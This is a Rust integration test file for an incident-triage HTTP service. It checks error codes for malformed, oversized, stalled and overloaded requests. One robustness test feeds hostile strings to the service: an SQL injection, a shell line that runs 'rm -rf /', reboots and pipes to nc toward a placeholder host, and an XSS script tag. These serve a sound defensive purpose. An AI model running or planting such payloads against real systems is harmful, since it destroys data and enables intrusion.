//! Every bad input gets its status and the `{ "error": ... }` shape; none crashes the server.

use serde_json::{Value, json};

use crate::helpers::{VIEWER_TOKEN, error_code, spawn_app};

#[tokio::test]
async fn malformed_json_is_400() {
    let app = spawn_app().await;
    let (code, _) = error_code(app.post_raw("/v1/triage", "{\"title\": ").await, 400).await;
    assert_eq!(code, "malformed_json");
}

#[tokio::test]
async fn missing_or_blank_text_is_422_naming_the_field() {
    let app = spawn_app().await;
    for body in [
        json!({}),
        json!({ "title": "", "description": "   " }),
        json!({ "caller": "x" }),
    ] {
        let (code, body) = error_code(app.post_json("/v1/triage", &body).await, 422).await;
        assert_eq!(code, "validation_failed");
        assert_eq!(body["error"]["field"], "title");
    }
}

#[tokio::test]
async fn wrong_types_and_unknown_fields_are_422() {
    let app = spawn_app().await;
    for body in [
        json!({ "title": 5 }),
        json!({ "title": "x", "priority": "1" }),
        json!([1, 2]),
    ] {
        let (code, _) = error_code(app.post_json("/v1/triage", &body).await, 422).await;
        assert_eq!(code, "invalid_body");
    }
}

#[tokio::test]
async fn body_over_limit_is_413() {
    let app = spawn_app().await;
    let big = "x".repeat(1024 * 1024 + 10);
    let body = serde_json::to_vec(&json!({ "title": "t", "description": big })).unwrap();
    let (code, _) = error_code(app.post_raw("/v1/triage", body).await, 413).await;
    assert_eq!(code, "body_too_large");
}

#[tokio::test]
async fn unknown_route_is_404_and_wrong_method_is_405() {
    let app = spawn_app().await;
    let (code, _) = error_code(app.get("/v1/nope").await, 404).await;
    assert_eq!(code, "not_found");
    let (code, _) = error_code(app.get("/v1/triage").await, 405).await;
    assert_eq!(code, "method_not_allowed");
}

#[tokio::test]
async fn wrong_content_type_is_415() {
    let app = spawn_app().await;
    let response = app
        .client
        .post(format!("{}/v1/triage", app.address))
        .header("content-type", "text/plain")
        .body("{\"title\":\"x\"}")
        .send()
        .await
        .unwrap();
    error_code(response, 415).await;
}

#[tokio::test]
async fn hostile_text_is_triaged_not_crashed() {
    let app = spawn_app().await;
    let hostile = [
        "'; DROP TABLE incidents; --",
        "$(rm -rf /) `reboot` | nc evil 1",
        "<script>alert(1)</script>",
        "\u{0000}\u{0007}\u{001b}[31m",
        "🔥🔥🔥 Drucker geht nicht, bitte helfen",
        "請幫我重置密碼",
    ];
    for text in hostile {
        let response = app
            .post_json("/v1/triage", &json!({ "title": text, "description": text }))
            .await;
        assert_eq!(response.status(), 200, "{text:?}");
    }
    let long = "word ".repeat(20_000);
    let response = app
        .post_json(
            "/v1/triage",
            &json!({ "title": "long", "description": long }),
        )
        .await;
    assert_eq!(response.status(), 200);
    assert_eq!(app.get("/healthz").await.status(), 200);
}

#[tokio::test]
async fn a_full_model_queue_answers_503_with_retry_after_and_recovers() {
    let app = crate::helpers::spawn_app().await;
    let dir = app.stop().await;
    let app = crate::helpers::spawn_app_on(dir, |s| {
        s.model.queue_capacity = 1;
        s.model.max_batch = 1;
        s.model.max_wait_ms = 0;
    })
    .await;
    let body = json!({ "title": "VPN down", "description": "cannot connect to the VPN from home" });
    let responses = concurrent_triage(&app, &body, 40).await;
    let overloaded: Vec<&reqwest::Response> =
        responses.iter().filter(|r| r.status() == 503).collect();
    assert!(
        !overloaded.is_empty(),
        "40 concurrent requests on a queue of 1 must overflow"
    );
    assert!(
        overloaded
            .iter()
            .all(|r| r.headers().get("retry-after").is_some())
    );
    assert!(
        responses
            .iter()
            .all(|r| r.status() == 200 || r.status() == 503)
    );
    // Once the storm has passed the service answers normally again.
    assert_eq!(app.post_json("/v1/triage", &body).await.status(), 200);
}

#[tokio::test]
async fn a_request_that_waited_too_long_for_the_model_is_refused_not_run() {
    let app = crate::helpers::spawn_app().await;
    let dir = app.stop().await;
    // A zero wait budget makes every queued request stale by the time the model
    // thread takes it: the answer is 503 + Retry-After and the model never runs it.
    let app = crate::helpers::spawn_app_on(dir, |s| s.model.max_queue_wait_ms = 0).await;
    let response = app
        .post_json(
            "/v1/triage",
            &json!({ "title": "VPN down", "description": "cannot connect" }),
        )
        .await;
    assert_eq!(response.status(), 503);
    assert!(response.headers().get("retry-after").is_some());
    let dir = app.stop().await;
    let app = crate::helpers::spawn_app_on(dir, |_| {}).await;
    let response = app
        .post_json(
            "/v1/triage",
            &json!({ "title": "VPN down", "description": "cannot connect" }),
        )
        .await;
    assert_eq!(response.status(), 200);
}

async fn concurrent_triage(
    app: &crate::helpers::TestApp,
    body: &serde_json::Value,
    n: usize,
) -> Vec<reqwest::Response> {
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..n {
        let client = app.client.clone();
        let url = format!("{}/v1/triage", app.address);
        let body = body.clone();
        tasks.spawn(async move {
            client
                .post(url)
                .bearer_auth(crate::helpers::AGENT_TOKEN)
                .json(&body)
                .send()
                .await
                .unwrap()
        });
    }
    tasks.join_all().await
}

#[tokio::test]
async fn shutdown_drains_requests_already_in_flight() {
    let app = crate::helpers::spawn_app().await;
    let dir = app.stop().await;
    // One text per forward pass, so eight requests take a while to get through.
    let app = crate::helpers::spawn_app_on(dir, |s| {
        s.model.max_batch = 1;
        s.model.max_wait_ms = 0;
    })
    .await;
    let url = format!("{}/v1/triage", app.address);
    let client = app.client.clone();
    let requests: Vec<_> = (0..8)
        .map(|i| {
            let (client, url) = (client.clone(), url.clone());
            tokio::spawn(async move {
                client
                    .post(url)
                    .bearer_auth(crate::helpers::AGENT_TOKEN)
                    .json(&json!({ "title": format!("VPN down {i}"), "description": "cannot connect from home" }))
                    .send()
                    .await
                    .map(|r| r.status().as_u16())
            })
        })
        .collect();
    // Let the requests reach the server, then shut down while they are being served.
    tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    app.stop().await;
    for request in requests {
        assert_eq!(
            request.await.unwrap().ok(),
            Some(200),
            "an in-flight request was cut off"
        );
    }
}

#[tokio::test]
async fn a_malformed_query_string_is_400_in_the_error_shape() {
    let app = spawn_app().await;
    for query in ["state=running&state=failed", "state=sleeping"] {
        let response = app
            .get_as(VIEWER_TOKEN, &format!("/v1/executions?{query}"))
            .await;
        let (code, _) = error_code(response, 400).await;
        assert_eq!(code, "invalid_query", "{query}");
    }
}

/// Sends `request` on a raw connection to `app`, waits past the 1-s read
/// timeout and returns everything the server sent before closing.
async fn stall(app: &crate::helpers::TestApp, request: &str) -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let address = app.address.trim_start_matches("http://");
    let mut stream = tokio::net::TcpStream::connect(address).await.unwrap();
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    tokio::time::timeout(
        std::time::Duration::from_secs(10),
        stream.read_to_end(&mut answer),
    )
    .await
    .expect("the server cut the stalled client off")
    .unwrap();
    String::from_utf8_lossy(&answer).into_owned()
}

#[tokio::test]
async fn clients_that_stall_sending_headers_or_body_are_cut_off() {
    let app = crate::helpers::spawn_app_on(tempfile::tempdir().unwrap(), |s| {
        s.server.request_read_timeout_s = 1;
    })
    .await;
    let started = std::time::Instant::now();
    let answer = stall(&app, "POST /v1/triage HTTP/1.1\r\nHost: x\r\nContent-Ty").await;
    assert!(answer.is_empty() || answer.contains(" 408 "), "{answer}");
    assert!(started.elapsed() < std::time::Duration::from_secs(5));

    let answer = stall(
        &app,
        "POST /v1/triage HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
         Content-Length: 200\r\nConnection: close\r\n\r\n{\"title\": \"VPN",
    )
    .await;
    let status: u16 = answer[9..12].parse().unwrap();
    assert!((400..500).contains(&status), "{answer}");
    assert!(answer.contains("\"error\""), "{answer}");

    // The server still answers everyone else.
    let ok = app
        .post_json("/v1/triage", &json!({ "title": "VPN drops" }))
        .await;
    assert_eq!(ok.status(), 200);
}

#[tokio::test]
async fn a_body_trickled_in_byte_by_byte_is_cut_off_at_the_request_deadline() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    // Each byte arrives well within the 30-s read timeout; the whole body never
    // arrives within the 2-s deadline.
    let app = crate::helpers::spawn_app_on(tempfile::tempdir().unwrap(), |s| {
        s.server.request_deadline_s = 2;
    })
    .await;
    let address = app.address.trim_start_matches("http://").to_owned();
    let mut stream = tokio::net::TcpStream::connect(address).await.unwrap();
    stream
        .write_all(
            b"POST /v1/triage HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
              Content-Length: 100\r\n\r\n",
        )
        .await
        .unwrap();
    let started = std::time::Instant::now();
    let (mut reader, mut writer) = stream.into_split();
    let trickle = tokio::spawn(async move {
        for byte in b"{\"title\": \"slow loris\"".iter().cycle().take(100) {
            if writer.write_all(&[*byte]).await.is_err() {
                return;
            }
            tokio::time::sleep(std::time::Duration::from_millis(300)).await;
        }
    });
    let mut answer = Vec::new();
    tokio::time::timeout(
        std::time::Duration::from_secs(10),
        reader.read_to_end(&mut answer),
    )
    .await
    .expect("the trickling client was cut off")
    .unwrap();
    trickle.abort();
    let answer = String::from_utf8_lossy(&answer);
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert!(answer.contains("\"request_timeout\""), "{answer}");
    let took = started.elapsed();
    assert!(
        took >= std::time::Duration::from_secs(2) && took < std::time::Duration::from_secs(6),
        "{took:?}"
    );
}

#[tokio::test]
async fn an_internal_failure_is_500_with_a_request_id_that_the_log_names() {
    // A corrupt execution row (its plan is not JSON) in a real server's database.
    let data = crate::helpers::sample_copy();
    let dir = tempfile::tempdir().unwrap();
    let config = crate::server_process::write_config(dir.path(), data.path(), None, "");
    let server = crate::server_process::ServerProcess::start_ready(&config, &[]).await;
    let pool = switchboard::infra::db::connect(&switchboard::infra::db::default_url(data.path()))
        .await
        .unwrap();
    sqlx::query(
        "INSERT INTO executions (id, runbook, runbook_version, plan, state, dry_run, requested_by, \
         approvals_needed, approver_role, created_at, updated_at) \
         VALUES ('corrupt-1', 'say', 1, 'not json', 'succeeded', 0, 'agent', 0, 'approver', 1, 1)",
    )
    .execute(&pool)
    .await
    .unwrap();
    let response = reqwest::Client::new()
        .get(format!("{}/v1/executions/corrupt-1", server.base))
        .bearer_auth(crate::helpers::VIEWER_TOKEN)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 500);
    assert!(
        response.headers().get("retry-after").is_none(),
        "not transient"
    );
    let header = response.headers()["x-request-id"]
        .to_str()
        .unwrap()
        .to_owned();
    let body: Value = response.json().await.unwrap();
    assert_eq!(body["error"]["code"], "internal");
    assert_eq!(body["error"]["request_id"], header.as_str());
    assert!(
        !body.to_string().contains("corrupt"),
        "no internals: {body}"
    );
    let started = std::time::Instant::now();
    loop {
        let log = server.log();
        if log
            .iter()
            .any(|l| l.contains(&header) && l.contains("stored data is corrupt"))
        {
            break;
        }
        assert!(
            started.elapsed() < std::time::Duration::from_secs(5),
            "{log:#?}"
        );
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
}

#[tokio::test]
async fn every_answer_carries_a_request_id() {
    let app = spawn_app().await;
    let ok = app
        .post_json("/v1/triage", &json!({ "title": "VPN drops" }))
        .await;
    let error = app.post_raw("/v1/triage", "{").await;
    let ids: Vec<String> = [&ok, &error]
        .iter()
        .map(|r| r.headers()["x-request-id"].to_str().unwrap().to_owned())
        .collect();
    assert_eq!(ids[0].len(), 32);
    assert_ne!(ids[0], ids[1]);
    let body: Value = error.json().await.unwrap();
    assert_eq!(body["error"]["request_id"], ids[1].as_str());
}

#[tokio::test]
async fn bodies_beyond_the_concurrent_limit_are_refused_at_once() {
    use tokio::io::AsyncWriteExt;
    let app = crate::helpers::spawn_app_on(crate::helpers::sample_copy(), |s| {
        s.server.max_concurrent_bodies = 1;
    })
    .await;
    // One client starts a body and stops halfway: it holds the only permit.
    let address = app.address.trim_start_matches("http://");
    let mut slow = tokio::net::TcpStream::connect(address).await.unwrap();
    slow.write_all(
        b"POST /v1/triage HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"title\":",
    )
    .await
    .unwrap();
    let body = json!({ "title": "VPN down", "description": "cannot connect" });
    let started = std::time::Instant::now();
    let refused = loop {
        let answer = app.post_json("/v1/triage", &body).await;
        if answer.status() == 503 {
            break answer;
        }
        // The slow body may not have reached the server yet.
        assert!(started.elapsed() < std::time::Duration::from_secs(10));
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    };
    let (code, _) = error_code(refused, 503).await;
    assert_eq!(code, "overloaded");
    drop(slow);
    let started = std::time::Instant::now();
    while app.post_json("/v1/triage", &body).await.status() != 200 {
        assert!(
            started.elapsed() < std::time::Duration::from_secs(10),
            "the permit came back"
        );
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
}
